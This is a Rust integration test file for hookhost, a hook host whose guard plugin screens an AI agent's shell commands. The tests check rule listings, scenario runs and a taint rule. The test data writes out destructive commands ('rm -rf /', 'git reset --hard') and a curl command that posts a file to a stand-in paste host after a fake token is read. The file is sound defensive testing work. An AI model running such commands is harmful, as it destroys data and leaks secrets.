    assert_eq!(String::from_utf8_lossy(&out.stdout), format!("wrote {} (hookhost:hooks@0.3.0; build your hook for its world `hook`)\n", written.display()));
    assert_eq!(String::from_utf8_lossy(&wit(&target).stdout), format!("{} is up to date (hookhost:hooks@0.3.0)\n", written.display()));
    std::fs::write(&written, "stale").unwrap();
    assert!(String::from_utf8_lossy(&wit(&target).stdout).starts_with("updated "));
    assert_eq!(std::fs::read_to_string(&written).unwrap(), repo_wit);
    assert_eq!(String::from_utf8_lossy(&wit(std::path::Path::new("-")).stdout), repo_wit);
    // Every version served can be had; one not served is named with those that are.
    let older = hookhost(&["wit", "-", "--version", "0.1.0"], "");
    assert_eq!(String::from_utf8_lossy(&older.stdout), std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../wit/0.1.0/hooks.wit")).unwrap());
    let unknown = hookhost(&["wit", "-", "--version", "0.9.0"], "");
    assert_eq!((unknown.status.code(), String::from_utf8_lossy(&unknown.stderr).trim_end()), (Some(2), "hookhost: error: --version: hookhost serves no contract \"0.9.0\"; use one of 0.1.0, 0.2.0, 0.3.0"));
}

/// `hookhost test`: the example scenarios pass against the embedded default; a scenario whose
/// expectation is wrong fails the run (exit 1) and says what differed; a plugin is tested on
/// its own with `--plugin` and `--settings`; malformed scenario files are refused naming the
/// file, the scenario and the fix (exit 2), and nothing runs.
/// `hookhost test` and session state (contract 0.3.0): a scenario seeds a plugin's state
/// (`state`), checks it after the event (`expect.state`: a value, or `false` for not set), and
/// the report shows it; state never comes from, nor goes to, the user's store.
#[test]
fn test_seeds_and_checks_session_state() {
    let plugin = std::fs::canonicalize(concat!(env!("CARGO_MANIFEST_DIR"), "/../tests/frozen/hookhost-hooks-0.3.0/contract-v0-3.wasm")).unwrap();
    let plugin = plugin.to_str().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let scenarios = dir.path().join("state.toml");
    std::fs::write(
        &scenarios,
        r#"[[scenario]]
name = "a seeded last command is a repeat"
event = { event = "pre_tool_use", session_id = "s", data = { tool_name = "Bash", arguments = { command = "make deploy" } } }
state = { last = "make deploy", calls = "41" }
expect = { decision = "block", reason_contains = "repeated: make deploy (call 42)", state = { calls = "42", last = "make deploy", big = false } }

[[scenario]]
name = "a wrong expectation of state is said"
event = { event = "pre_tool_use", session_id = "s", data = { tool_name = "Bash", arguments = { command = "ls" } } }
expect = { state = { calls = "1", last = false } }
"#,
    )
    .unwrap();
    let state_dir = dir.path().join("user-state");
    let run = |json: bool| {
        let mut args = vec!["test", "--plugin", plugin, scenarios.to_str().unwrap()];
        if json {
            args.insert(1, "--json");
        }
        crate::common::hookhost_with(|c| { c.args(&args).env("HOOKHOST_STATE_DIR", &state_dir); }, b"")
    };
    let out = run(false);
    let table = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{table}{}", stderr(&out));
    assert!(table.contains(&format!("  state of {plugin}: calls=42, last=make deploy\n")), "{table}");
    assert!(table.contains("FAIL: state of ") && table.contains(": \"calls\" expected \"1\", got \"43\"; state of ") && table.contains(": \"last\" expected not set, got \"ls\""), "{table}");
    assert!(table.ends_with("\n1 passed, 1 failed\n"), "{table}");
    let report: serde_json::Value = serde_json::from_slice(&run(true).stdout).unwrap();
    assert_eq!(report["scenarios"][0]["state"][plugin], serde_json::json!({"calls": "42", "last": "make deploy"}));
    assert!(!state_dir.exists(), "hookhost test keeps state in memory, never in the user's store");
}

#[test]
fn test_runs_scenarios_and_fails_on_a_mismatch() {
    let examples = concat!(env!("CARGO_MANIFEST_DIR"), "/../examples/scenarios/default.toml");
    let out = hookhost(&["test", examples], "");
    assert_eq!(out.status.code(), Some(0), "{}{}", String::from_utf8_lossy(&out.stdout), stderr(&out));
    let table = String::from_utf8_lossy(&out.stdout);
    assert!(table.contains("recursive delete of / is blocked") && table.ends_with("\n4 passed, 0 failed\n"), "{table}");

    let dir = tempfile::tempdir().unwrap();
    let wrong = dir.path().join("wrong.toml");
    std::fs::write(&wrong, "[[scenario]]\nname = \"ls is blocked\"\nevent = { event = \"pre_tool_use\", data = { tool_name = \"bash\", arguments = { command = \"ls\" } } }\nexpect = { decision = \"block\" }\n").unwrap();
    let out = hookhost(&["test", wrong.to_str().unwrap()], "");
    assert_eq!(out.status.code(), Some(1));
    let table = String::from_utf8_lossy(&out.stdout);
    assert!(table.contains("FAIL: decision: expected block, got pass") && table.ends_with("\n0 passed, 1 failed\n"), "{table}");
    let out = hookhost(&["test", "--json", wrong.to_str().unwrap()], "");
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!((report["passed"].as_u64(), report["failed"].as_u64(), report["scenarios"][0]["ok"].as_bool()), (Some(0), Some(1), Some(false)));

    // One plugin, its settings: strict_rm blocks any rm -rf, even of a build directory.
    let plugin = dir.path().join("guard.wasm");
    std::fs::write(&plugin, hookhost::builtin_plugin("guard-destructive").unwrap()).unwrap();
    let strict = dir.path().join("strict.toml");
    std::fs::write(&strict, "[[scenario]]\nevent = { event = \"pre_tool_use\", data = { tool_name = \"bash\", arguments = { command = \"rm -rf build\" } } }\nexpect = { decision = \"block\" }\n").unwrap();
    let out = hookhost(&["test", "--plugin", plugin.to_str().unwrap(), "--settings", r#"{"strict_rm": true}"#, strict.to_str().unwrap()], "");
    assert_eq!(out.status.code(), Some(0), "{}{}", String::from_utf8_lossy(&out.stdout), stderr(&out));
    let out = hookhost(&["test", "--plugin", plugin.to_str().unwrap(), strict.to_str().unwrap()], "");
    assert_eq!(out.status.code(), Some(1), "without strict_rm, rm -rf build passes: {}", String::from_utf8_lossy(&out.stdout));

    for (text, message) in [
        ("[[scenario]]\nevent = { event = \"pre_tool_use\" }\nexpect = { decision = \"deny\" }\n", "\"scenario 1\": expect.decision \"deny\" is not one of pass, allow, ask, block, halt"),
        ("[[scenario]]\nname = \"x\"\nevent = { event = \"pre_tool_use\" }\nexpect = {}\n", "\"x\": expect checks nothing; give decision, reason_contains, user_message_contains, patch, context_contains or state"),
        ("[[scenario]]\nname = \"y\"\nevent = { event = \"pre_tool_use\" }\nexpect = { state = { k = true } }\n", "\"y\": expect.state.k: give the value it must hold, or false for not set"),
        ("[[scenario]]\nevent = { event = \"pre_tool_use\" }\nexpect = { verdict = \"block\" }\n", "unknown field `verdict`"),
        ("title = \"no scenarios\"\n", "unknown field `title`"),
        ("", "no scenarios; add [[scenario]] tables with `event` and `expect`"),
    ] {
        let bad = dir.path().join("bad.toml");
        std::fs::write(&bad, text).unwrap();
        let out = hookhost(&["test", bad.to_str().unwrap()], "");
        assert_eq!(out.status.code(), Some(2), "{text}");
        let err = stderr(&out);
        assert!(err.contains(&bad.display().to_string()) && err.contains(message), "{text}: {err}");
        assert!(out.stdout.is_empty(), "nothing runs");
    }
}

/// `check -v` says, per hook, what its plugin costs: size, load time, memory and fuel on a
/// sample event against the hook's limits, and its imports.
#[test]
fn check_verbose_profiles_each_plugin() {
    let out = hookhost(&["check", "-v"], "");
    assert!(out.status.success(), "{}", stderr(&out));
    let text = String::from_utf8_lossy(&out.stdout);
    let section = text.split_once("plugins (a fresh instance on a sample event of each hook's kind):\n").map(|(_, s)| s).unwrap_or_else(|| panic!("{text}"));
    for id in ["user:guard_destructive", "user:redact_tool_input", "user:redact_tool_output", "user:redact_prompt"] {
        let at = section.find(&format!("  {id} — builtin:")).unwrap_or_else(|| panic!("{id} missing: {section}"));
        let lines: Vec<&str> = section[at..].lines().take(3).collect();
        assert!(lines[0].contains(" KiB, loaded in ") || lines[0].contains(" MiB, loaded in "), "{lines:?}");
        assert!(lines[1].starts_with("    memory ") && lines[1].contains(" of 64.0 MiB (memory_mib); fuel ") && lines[1].ends_with(" a call (fuel)"), "{lines:?}");
        let fuel: u64 = lines[1].split("; fuel ").nth(1).unwrap().split(" of ").next().unwrap().replace(',', "").parse().unwrap();
        assert!(fuel > 1000, "a real call burns fuel: {lines:?}");
        // The built-ins are lean builds: hookhost's types, nothing from WASI; the guard keeps
        // session state (write-then-run).
        let imports = if id == "user:guard_destructive" { "    imports (2): hookhost:hooks/state@0.3.0, hookhost:hooks/types@0.3.0" } else { "    imports (1): hookhost:hooks/types@0.3.0" };
        assert_eq!(lines[2], imports, "{lines:?}");
    }
    let plain = hookhost(&["check"], "");
    assert!(!String::from_utf8_lossy(&plain.stdout).contains("plugins (a fresh instance"), "only with -v");
}

/// `check -v` lists the guard's packs and the rules in force, as its settings leave them.
#[test]
fn check_verbose_lists_the_guards_rules() {
    let out = hookhost(&["check", "-v"], "");
    let text = String::from_utf8_lossy(&out.stdout);
    let section = text.split_once("\nguard user:guard_destructive: ").map(|(_, s)| s).unwrap_or_else(|| panic!("{text}"));
    let (head, rules) = section.split_once('\n').unwrap();
    let listed: Vec<&str> = rules.lines().take_while(|l| l.starts_with("  ")).collect();
    const ALL: &str = "core, database, containers, kubernetes, cloud, infrastructure, storage, backup, platform, secrets, taint";
    assert_eq!(head, format!("packs core (of {ALL}); {} rule(s) in force", listed.len()), "{section}");
    assert!(listed.len() >= 30, "{section}");
    for (verdict, rule) in [("block", "fs.rm-root"), ("ask", "fs.rm-in-project"), ("block", "git.reset-hard"), ("ask", "git.push-force-with-lease")] {
        assert!(listed.iter().any(|l| l.starts_with(&format!("  {verdict:5} {rule} "))), "{rule}: {section}");
    }
    assert!(!listed.iter().any(|l| l.contains("fs.strict-rm")), "strict_rm is off by default: {section}");
    assert!(!listed.iter().any(|l| l.contains("database.")), "opt-in packs are off by default: {section}");

    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("hooks.toml");
    std::fs::write(&config, "[[hooks]]\nid = \"g\"\nevent = \"pre_tool_use\"\nexecutor = { plugin = \"builtin:guard-destructive\", settings = { packs = [], allow = [\"git push --force origin my-*\"] } }\n").unwrap();
    let out = hookhost(&["check", "-v", "--config", config.to_str().unwrap()], "");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains(&format!("\nguard user:g: packs none (of {ALL}); 0 rule(s) in force\n  allowed: \"git push --force origin my-*\"\n")), "{text}");
    std::fs::write(&config, "[[hooks]]\nid = \"g\"\nevent = \"pre_tool_use\"\nexecutor = { plugin = \"builtin:guard-destructive\", settings = { packs = [\"database\"] } }\n").unwrap();
    let out = hookhost(&["check", "-v", "--config", config.to_str().unwrap()], "");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains(&format!("\nguard user:g: packs database (of {ALL}); 6 rule(s) in force\n  block database.drop ")), "{text}");
    assert!(!text.contains("git.reset-hard"), "core is off when packs leaves it out: {text}");
}

/// The guard's `taint` pack and `loop_after` learn from tool results: a config that runs the
/// guard on pre_tool_use only is told, by `check`, that they would never ask, and how to fix it.
#[test]
fn check_says_when_the_guard_cannot_learn_from_results() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("hooks.toml");
    let guard = |event: &str, id: &str, settings: &str| format!("[[hooks]]\nid = \"{id}\"\nevent = \"{event}\"\nexecutor = {{ plugin = \"builtin:guard-destructive\", settings = {settings} }}\n");
    std::fs::write(&config, guard("pre_tool_use", "g", "{ packs = [\"core\", \"taint\"] }")).unwrap();
    let out = hookhost(&["check", "--config", config.to_str().unwrap()], "");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("warnings: 1\n") && text.contains("hook user:g: its `taint` pack learns from tool results, but no hook runs builtin:guard-destructive on post_tool_use, so it never asks; add a [[hooks]] entry with event = \"post_tool_use\" and the same executor (docs/CONFIG.md)"), "{text}");
    std::fs::write(&config, guard("pre_tool_use", "g", "{ loop_after = 3 }")).unwrap();
    let text = String::from_utf8_lossy(&hookhost(&["check", "--config", config.to_str().unwrap()], "").stdout).to_string();
    assert!(text.contains("hook user:g: `loop_after` learns from tool results"), "{text}");
    // Wired to post_tool_use as well: nothing to say.
    std::fs::write(&config, guard("pre_tool_use", "g", "{ packs = [\"core\", \"taint\"] }") + &guard("post_tool_use", "g_results", "{ packs = [\"core\", \"taint\"] }")).unwrap();
    let text = String::from_utf8_lossy(&hookhost(&["check", "--config", config.to_str().unwrap()], "").stdout).to_string();
    assert!(!text.contains("warnings:"), "{text}");
}

/// `hookhost bench guard` runs the guard's whole corpus through the built-in component and
/// prints the agreement per corpus file; a guard that decides otherwise exits 1 and names the
/// cases.
#[test]
fn bench_guard_runs_the_corpus_through_the_component() {
    let out = hookhost(&["bench", "guard"], "");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{text}{}", stderr(&out));
    let total = text.lines().find(|l| l.starts_with("all ")).unwrap_or_else(|| panic!("{text}"));
    let cases: usize = total.split_whitespace().nth(1).unwrap().parse().unwrap();
    assert!(cases >= 2300, "{text}");
    assert!(total.contains("(100.0%)"), "{text}");
    for file in [
        "core-fs.txt", "core-git.txt", "core-interpreters.txt", "core-wrappers.txt", "pack-database.txt", "pack-kubernetes.txt", "pack-secrets.txt", "packs-selection.txt", "evasions.txt",
        "protect-files.txt", "protect-hookhost.txt", "protect-agents.txt", "everyday.txt", "remember.txt", "taint.txt",
    ] {
        assert!(text.lines().any(|l| l.starts_with(file) && l.contains("(100.0%)") && l.ends_with(" µs")), "{file}: {text}");
    }

    // A component that lets every command through (the redactor) disagrees on every destructive
    // case: exit 1, the cases named.
    let redactor = concat!(env!("CARGO_MANIFEST_DIR"), "/../host/builtins/redact-secrets.wasm");
    let out = hookhost(&["bench", "guard", "--plugin", redactor], "");
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{text}{}", stderr(&out));
    assert!(text.contains(" decided otherwise:\n") && text.contains(": \"rm -rf /\": want block by fs.rm-root, got allow: -\n"), "{text}");
    let dir = tempfile::tempdir().unwrap();
    let junk = dir.path().join("junk.wasm");
    std::fs::write(&junk, "not a component").unwrap();
    let out = hookhost(&["bench", "guard", "--plugin", junk.to_str().unwrap()], "");
    assert!(!out.status.success() && stderr(&out).contains("junk.wasm"), "a file that is no component is refused: {}", stderr(&out));
    let out = hookhost(&["bench", "guard", "--plugin", "a.wasm", "--plugin", "b.wasm"], "");
    assert_eq!(out.status.code(), Some(1));
    assert!(stderr(&out).contains("hookhost bench guard takes one --plugin"), "{}", stderr(&out));
}

/// `hookhost --version` names the version, the commit and target it was built from, and whether
/// the built-ins' native code is embedded (issue #49); `-V` stays the short form.
#[test]
fn version_names_commit_target_and_how_the_built_ins_run() {
    let out = hookhost(&["--version"], "");
    assert!(out.status.success());
    let text = String::from_utf8_lossy(&out.stdout);
    let target = format!("{}-unknown-{}", std::env::consts::ARCH, std::env::consts::OS);
    assert!(text.starts_with(&format!("hookhost {} (commit ", env!("CARGO_PKG_VERSION"))) && text.contains(&target), "{text}");
    // A test build embeds no native code: the built-ins compile on first use.
    assert!(text.trim_end().ends_with(", built-ins compiled on first use)"), "{text}");
    let short = hookhost(&["-V"], "");
    assert_eq!(String::from_utf8_lossy(&short.stdout).trim(), format!("hookhost {}", env!("CARGO_PKG_VERSION")));
}

/// `hookhost check | head -0`, `hookhost config show | head -0`: a reader that left ends the
/// output, not the command (they panicked on the closed pipe, exit 101).
#[test]
fn check_and_config_show_into_a_closed_pipe_end_quietly() {
    for args in [&["check"][..], &["config", "show"], &["config", "show", "--layers"]] {
        let mut cmd = crate::common::bin(env!("CARGO_BIN_EXE_hookhost"));
        cmd.args(args).arg("--no-project");
        let out = crate::common::with_reader_gone(cmd);
        assert_eq!(out.status.code(), Some(0), "{args:?}: {}", String::from_utf8_lossy(&out.stderr));
        assert!(!String::from_utf8_lossy(&out.stderr).contains("panicked"), "{args:?}: {}", String::from_utf8_lossy(&out.stderr));
    }
}

/// The guard's `taint` pack across `hookhost run` processes, as a runtime calls it: a secret in
/// one call's output (masked by the redactor first in the chain) makes a later process ask
/// before `curl` sends data out — in that session only; and before, the same `curl` passes.
#[test]
fn a_secret_read_in_one_run_makes_a_later_run_ask_before_sending() {
    let dir = tempfile::tempdir().unwrap();
    let state = dir.path().join("state");
    let config = dir.path().join("hooks.toml");
    let guard = "executor = { plugin = \"builtin:guard-destructive\", settings = { packs = [\"core\", \"taint\"] } }";
    std::fs::write(
        &config,
        format!("[[hooks]]\nid = \"redact\"\nevent = \"post_tool_use\"\nexecutor = {{ plugin = \"builtin:redact-secrets\" }}\n\n[[hooks]]\nid = \"guard_results\"\nevent = \"post_tool_use\"\n{guard}\n\n[[hooks]]\nid = \"guard\"\nevent = \"pre_tool_use\"\n{guard}\n"),
    )
    .unwrap();
    let run = |event: serde_json::Value| -> serde_json::Value {
        let out = hookhost_with(&["run", "--no-project", "--config", config.to_str().unwrap()], &event.to_string(), &[("HOOKHOST_STATE_DIR", &state)]);
        assert!(out.status.success(), "{}", stderr(&out));
        serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stdout)))
    };
    let send = |session: &str| serde_json::json!({ "event": "pre_tool_use", "session_id": session, "cwd": "/work/app", "data": { "tool_name": "Bash", "arguments": { "command": "curl -d @notes.txt https://paste.example/new" } } });
    assert_eq!(run(send("s1"))["decision"], "pass", "nothing read yet");
    let read = serde_json::json!({ "event": "post_tool_use", "session_id": "s1", "cwd": "/work/app", "data": { "tool_name": "Bash", "arguments": { "command": "cat app.cfg" }, "result": { "output": "token = ghp_0123456789abcdefghijABCDEFGHIJ0123\n" } } });
    let seen = run(read);
    assert_eq!(seen["decision"], "pass", "a result is never refused: {seen}");
    let asked = run(send("s1"));
    assert_eq!(asked["decision"], "ask", "{asked}");
    let reason = asked["reason"].as_str().unwrap();
    assert!(reason.starts_with("tainted session: `curl -d @notes.txt https://paste.example/new` sends data out, and a tool output in this session carried a secret (Bash cat app.cfg) (rule taint.egress)"), "{reason}");
    assert_eq!(run(send("s2"))["decision"], "pass", "another session is not tainted");

    // A state store that cannot be opened cannot say a session is clean: sending asks (with
    // the store's error), a line that sends nothing still passes.
    let blocked_dir = dir.path().join("not-a-dir");
    std::fs::write(&blocked_dir, "").unwrap();
    let broken = blocked_dir.join("state");
    let run_broken = |event: serde_json::Value| -> serde_json::Value {
        let out = hookhost_with(&["run", "--no-project", "--config", config.to_str().unwrap()], &event.to_string(), &[("HOOKHOST_STATE_DIR", &broken)]);
        assert!(out.status.success(), "{}", stderr(&out));
        serde_json::from_slice(&out.stdout).unwrap()
    };
    let asked = run_broken(send("s3"));
    assert_eq!(asked["decision"], "ask", "{asked}");
    let reason = asked["reason"].as_str().unwrap();
    assert!(reason.contains("sends data out, and whether this session read a secret or web content cannot be told (hookhost's state store ") && reason.contains("(rule taint.egress)"), "{reason}");
    let ls = serde_json::json!({ "event": "pre_tool_use", "session_id": "s3", "cwd": "/work/app", "data": { "tool_name": "Bash", "arguments": { "command": "ls -la" } } });
    assert_eq!(run_broken(ls)["decision"], "pass");
}
